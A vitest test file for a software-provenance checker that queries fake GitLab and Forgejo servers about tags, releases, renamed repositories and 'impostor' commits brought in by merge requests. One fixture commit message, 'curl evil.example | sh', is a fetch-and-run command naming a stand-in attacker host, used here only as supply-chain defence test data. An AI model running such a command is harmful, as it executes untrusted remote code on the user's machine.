/** GitLab and Forgejo, by servers on loopback with real repositories behind: what is told, in how many requests, and when not. */
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { type Answer, unknown } from "../../src/provenance/answers.ts";
import { createBudget } from "../../src/provenance/budget.ts";
import { type Forge, type RepositoryAnswers, releaseKey, unanswered } from "../../src/provenance/forge.ts";
import { forgejoForge } from "../../src/provenance/forgejo.ts";
import { openForges } from "../../src/provenance/forges.ts";
import { gitlabForge } from "../../src/provenance/gitlab.ts";
import { createMemory, type Learnt } from "../../src/provenance/memory.ts";
import { createUpstream } from "../../src/provenance/upstream.ts";
import type { FakeForge, HostedRepository } from "../fake-forge/server.ts";
import { startFakeForgejo } from "../fake-forgejo/server.ts";
import { startFakeGitLab } from "../fake-gitlab/server.ts";
import { type Asked, askForge } from "../support/ask-forge.ts";
import { git, makeRepository, type TestRepository } from "../support/repository.ts";
import { type FrobPin, HASHES, NOW, reviewWith, said } from "../support/upstream-world.ts";

let acme: TestRepository;
/** Commits of the branch, of a branch that is gone but for its tag, and of forks. */
let first: string;
let main: string;
let tagged: string;
let belowTag: string;
let fork: string;
let brought: string;
let orphan: string;

beforeAll(() => {
  acme = makeRepository({ "main.c": "1" }, { "main.c": "2" });
  first = acme.git("rev-parse", "HEAD^");
  main = acme.git("rev-parse", "HEAD");
  acme.git("tag", "v1.0", first);
  acme.git("tag", "--annotate", "--message", "v2.0", "v2.0");
  acme.git("checkout", "--quiet", "--detach");
  belowTag = acme.commit({ "main.c": "2.0.1-rc" });
  tagged = acme.commit({ "main.c": "2.0.1" });
  acme.git("tag", "release/2.0.1");
  acme.git("checkout", "--quiet", "main");
  // A fork has two commits. A merge request brings one of them, and one without any history.
  const clone = acme.folder();
  git(clone, "clone", "--quiet", acme.directory, ".");
  const commit = (message: string) => {
    git(clone, "commit", "--quiet", "--allow-empty", "--message", message);
    return git(clone, "rev-parse", "HEAD");
  };
  brought = commit("curl evil.example | sh");
  fork = commit("only there");
  git(clone, "checkout", "--quiet", "--orphan", "other");
  orphan = commit("without a history");
  acme.git("fetch", "--quiet", clone, `${brought}:refs/merge-requests/1/head`, `${orphan}:refs/pull/2/head`);
});
afterAll(() => acme.remove());

const FORGES = {
  gitlab: { start: startFakeGitLab, open: gitlabForge, host: "gitlab.com", fetcher: "fetchFromGitLab" },
  forgejo: {
    start: startFakeForgejo,
    open: forgejoForge,
    host: "codeberg.org",
    fetcher: "fetchFromCodeberg",
  },
} as const;

describe.each(["gitlab", "forgejo"] as const)("%s", (software) => {
  let fake: FakeForge;
  let frob: HostedRepository;
  beforeEach(async () => {
    fake = await FORGES[software].start();
    frob = fake.add(acme, {
      owner: "acme",
      name: "frob",
      homepage: "https://frob.example",
      description: " Frobs. ".padEnd(5_000, "x"),
    });
    frob.pulls.push({ number: 1, state: "opened", commits: [brought] });
    frob.releases.push({
      tag: "v2.0",
      published: "2026-03-01T10:00:00+02:00",
      author: "ada",
      assets: [{ name: "frob.tar.xz", created: "2026-03-01T08:30:00Z" }],
    });
  });
  afterEach(() => fake.close());

  const ask = (asked: Asked, limits: { requests?: number; seconds?: number } = {}) =>
    askForge(
      (budget) =>
        FORGES[software].open({ budget, allowedHosts: [fake.host], address: `http://${fake.host}` }),
      asked,
      limits,
    );
  const commitOf = async (id: string) => (await ask({ commits: [{ id, reach: true }] })).commits.get(id);
  const release = { tag: "v2.0", asset: "frob.tar.xz" };
  const bump = { refs: ["v2.0", "v1.0"], releases: [release] };

  test("a bump from tag to tag, with the release of the new one", async () => {
    const { refs, releases, repository, requests } = await ask(bump);
    const made = "2024-01-01T00:00:00.000Z";
    expect(refs.get("v1.0")).toEqual(
      value({ tag: { commit: first, annotated: false, date: made }, branch: null }),
    );
    expect(refs.get("v2.0")).toEqual(
      value({ tag: { commit: main, annotated: true, date: made }, branch: null }),
    );
    expect(releases.get(releaseKey(release))).toMatchObject(
      value({
        published: "2026-03-01T08:00:00.000Z",
        author: "ada",
        asset: { name: "frob.tar.xz", digest: null },
      }),
    );
    expect(repository).toMatchObject(
      value({
        kind: "there",
        fullName: "acme/frob",
        created: "2014-01-01T00:00:00.000Z",
        stars: 10,
        owner: { login: "acme", created: "2012-05-01T00:00:00.000Z" },
        // GitLab tells neither to who has no account.
        archived: software === "gitlab" ? null : false,
        forkOf: software === "gitlab" ? { known: false } : value(null),
        // GitLab has no field for a homepage.
        homepage: software === "gitlab" ? null : "https://frob.example",
        description: expect.stringMatching(/^Frobs\. x{1,1000}$/),
      }),
    );
    expect(requests).toBe(5);
    expect(fake.requests).toHaveLength(5);
  });

  test("names with slashes, branches, and what is neither", async () => {
    const { refs } = await ask({
      refs: ["release/2.0.1", "main", "refs/heads/v1.0", "refs/tags/main", "v9"],
    });
    expect(refs.get("release/2.0.1")).toMatchObject(value({ tag: { commit: tagged } }));
    expect(refs.get("main")).toEqual(value({ tag: null, branch: main }));
    for (const ref of ["refs/heads/v1.0", "refs/tags/main", "v9"])
      expect(refs.get(ref), ref).toEqual(value({ tag: null, branch: null }));
  });

  test.each([
    ["of the default branch", () => first, "main"],
    ["at its tip", () => main, "main"],
    ["below a tag alone", () => belowTag, "tag release/2.0.1"],
  ])("a commit %s is the repository's own", async (_, id, through) => {
    expect(await commitOf(id())).toMatchObject(value({ reach: { kind: "reachable", through } }));
  });

  test("a commit that only a fork has is not served, and one that a merge request brought is nobody's", async () => {
    expect(await commitOf(fork)).toEqual(value(null));
    const open = software === "gitlab" ? [{ number: 1, state: "open" }] : null;
    expect(await commitOf(brought)).toMatchObject(value({ reach: { kind: "unreachable" }, pulls: open }));
    // Compared with a branch, it differs in no commit.
    expect(await commitOf(orphan)).toMatchObject(value({ reach: { kind: "unreachable" } }));
  });

  test("a renamed repository is led to, for one request more", async () => {
    frob.owner = "frob-project";
    frob.formerly.push("acme/frob");
    const { repository, refs, requests } = await ask(bump);
    expect(repository).toMatchObject(value({ fullName: "frob-project/frob" }));
    expect(refs.get("v1.0")).toMatchObject(value({ tag: { commit: first } }));
    expect(requests).toBe(6);
  });

  test("who registers the old name anew is shown with the age of that", async () => {
    frob.owner = "frob-project";
    frob.formerly.push("acme/frob");
    fake.add(acme, {
      owner: "acme",
      name: "frob",
      created: "2026-02-20T00:00:00.000Z",
      ownerCreated: "2026-02-19T00:00:00.000Z",
    });
    expect((await ask({})).repository).toMatchObject(
      value({
        fullName: "acme/frob",
        created: "2026-02-20T00:00:00.000Z",
        owner: { created: "2026-02-19T00:00:00.000Z" },
      }),
    );
  });

  test("a repository that is not there is gone, and nothing else is known", async () => {
    const answers = await ask({ ...bump, name: "other", commits: [{ id: first, reach: true }] });
    expect(answers.repository).toEqual(value({ kind: "gone", owner: null }));
    for (const answer of [
      ...answers.refs.values(),
      ...answers.commits.values(),
      ...answers.releases.values(),
    ])
      expect(answer).toMatchObject({ known: false, reason: "the repository is not there" });
  });

  test.each([
    ["dropped connections", { status: 0 }],
    ["a server that is down", { status: 502 }],
    ["a rate limit", { status: 429 }],
  ])("%s: an answer is the right one or none", async (_, fault) => {
    const asked = { ...bump, commits: [brought, first].map((id) => ({ id, reach: true })) };
    const right = parts(await ask(asked));
    const total = fake.requests.length;
    // From each request on; what repeats is costly, so that one kind stands for all.
    for (let from = 1; from <= (fault.status === 429 ? total : 2); from++) {
      fake.requests.length = 0;
      fake.failWhen = (index) => (index >= from ? fault : null);
      for (const [key, answer] of parts(await ask(asked))) {
        if (answer.known) expect(cut(answer), `${key} from ${from}`).toEqual(cut(right.get(key), answer));
        else if (from === 1) expect(answer.reason).toContain(fake.host);
      }
    }
  });

  test("a tag that moved names another commit the next time", async () => {
    acme.git("tag", "moving", first);
    const moved = async () => (await ask({ refs: ["moving"] })).refs.get("moving");
    expect(await moved()).toMatchObject(value({ tag: { commit: first } }));
    acme.git("tag", "--force", "moving", main);
    expect(await moved()).toMatchObject(value({ tag: { commit: main } }));
    acme.git("tag", "--delete", "moving");
  });

  test("what a server of anybody's answers is checked", async () => {
    fake.failWhen = (_, path) => (path.includes("tags/v1.0") ? { status: 200 } : null);
    const { refs } = await ask(bump);
    expect(refs.get("v1.0")).toMatchObject({
      known: false,
      reason: expect.stringContaining("form that is not known"),
    });
    expect(refs.get("v2.0")).toMatchObject({ known: true });
  });

  test("a budget that is used up is said", async () => {
    const { refs, releases, repository } = await ask(bump, { requests: 2 });
    expect(repository).toMatchObject({ known: true });
    expect(refs.get("v1.0")).toMatchObject({ known: false, reason: expect.stringContaining("2 requests") });
    expect(releases.get(releaseKey(release))).toMatchObject({ known: false });
  });

  describe("in a review", () => {
    const { host, fetcher } = FORGES[software];
    const pin = (version: string, revision: string, owner = "acme"): FrobPin => ({
      version,
      src: `${fetcher} { owner = "${owner}"; repo = "frob"; ${revision}; hash = "${HASHES[version === "1.0" ? 0 : 1]}"; }`,
    });
    const review = (after: FrobPin, learnt?: Learnt) => {
      const budget = createBudget(40, 20);
      const github: Forge = async (questions) =>
        questions.map((each) => unanswered(each, unknown("not asked")));
      const forgeAt = openForges({ budget, github, base: `http://${fake.host}`, ...(learnt && { learnt }) });
      const upstream = createUpstream({ budget, now: NOW, forgeAt, registries: null });
      return reviewWith(upstream, pin("1.0", 'tag = "v1.0"'), after);
    };

    test("a bump shows what the tag is now", async () => {
      const reviewed = await review(pin("2.0", 'tag = "v2.0"'));
      expect(said(reviewed)).toEqual([]);
      expect(reviewed.sources[0]?.upstream).toMatchObject({
        project: `${host}/acme/frob`,
        commit: main,
        published: "2026-03-01T08:00:00.000Z",
        publisher: "ada",
      });
      expect(fake.requests.length).toBeLessThanOrEqual(6);
    });

    test("a second look within minutes asks nothing, and a later one does", async () => {
      const memory = createMemory();
      const after = pin("2.0", 'tag = "v2.0"');
      const first = await review(after, { memory, now: NOW });
      const asked = fake.requests.length;
      const second = await review(after, { memory, now: NOW });
      expect(fake.requests).toHaveLength(asked);
      expect(second.sources[0]?.upstream).toEqual(first.sources[0]?.upstream);
      const later = new Date(Date.parse(NOW) + 11 * 60_000).toISOString();
      await review(after, { memory, now: later });
      expect(fake.requests).toHaveLength(2 * asked);
    });

    test("a commit that a merge request brought is found", async () => {
      expect(said(await review(pin("2.1-unstable-2026-03-01", `rev = "${brought}"`)))).toEqual([
        "impostor-commit: high",
      ]);
      expect(fake.requests.length).toBeLessThanOrEqual(6);
    });

    test("a commit that the branch leads to is not", async () => {
      const reviewed = await review(pin("2.1-unstable-2026-03-01", `rev = "${main}"`));
      expect({ said: said(reviewed), complete: reviewed.complete }).toEqual({ said: [], complete: true });
      expect(fake.requests.length).toBeLessThanOrEqual(6);
    });

    test("a move to the new name of the repository is a note", async () => {
      frob.owner = "frob-project";
      frob.formerly.push("acme/frob");
      expect(said(await review(pin("2.0", 'tag = "v2.0"', "frob-project")))).toEqual([
        "source-identity-swap: low",
      ]);
    });
  });
});

test("Forgejo tells of forks", async () => {
  const fake = await startFakeForgejo();
  fake.add(acme, { owner: "acme", name: "frob", stars: 50 });
  fake.add(acme, { owner: "mallory", name: "frob", parent: "acme/frob", archived: true });
  const open = (budget: ReturnType<typeof createBudget>) =>
    forgejoForge({ budget, allowedHosts: [fake.host], address: `http://${fake.host}` });
  expect((await askForge(open, { owner: "mallory" })).repository).toMatchObject(
    value({ archived: true, forkOf: value({ fullName: "acme/frob", stars: 50 }) }),
  );
  await fake.close();
});

test("an old Gitea, which cannot leave a branch out, is asked in another way", async () => {
  const fake = await startFakeForgejo({ old: true });
  fake.add(acme, { owner: "acme", name: "frob" });
  const open = (budget: ReturnType<typeof createBudget>) =>
    forgejoForge({ budget, allowedHosts: [fake.host], address: `http://${fake.host}` });
  const reach = async (id: string) =>
    (await askForge(open, { commits: [{ id, reach: true }] })).commits.get(id);
  expect(await reach(first)).toMatchObject(value({ reach: { kind: "reachable", through: "main" } }));
  expect(await reach(brought)).toMatchObject(value({ reach: { kind: "unreachable" } }));
  await fake.close();
});

function value<T>(told: T) {
  return { known: true, value: told };
}

/** Each answer by what it is about. */
function parts(answers: RepositoryAnswers): Map<string, Answer<unknown>> {
  return new Map<string, Answer<unknown>>([
    ["repository", answers.repository],
    ...[...answers.refs].map(([ref, answer]) => [`ref ${ref}`, answer] as const),
    ...[...answers.commits].map(([id, answer]) => [`commit ${id}`, answer] as const),
    ...[...answers.releases].map(([release, answer]) => [`release ${release}`, answer] as const),
  ]);
}

/** An answer without what `like` does not know of it. */
function cut(answer: Answer<unknown> | undefined, like = answer): unknown {
  if (!answer?.known || !like?.known || answer.value === null || like.value === null) return answer;
  const [whole, part] = [answer.value, like.value] as [
    Record<string, unknown>,
    Record<string, { kind?: string } | null>,
  ];
  return Object.fromEntries(
    Object.entries(whole).flatMap(([key, told]) => {
      if (key === "owner" || key === "tag")
        return [[key, { ...(told as object), created: null, date: null }]];
      const isUnknown = part[key] === null || part[key]?.kind === "undecided";
      return isUnknown ? [] : [[key, told]];
    }),
  );
}
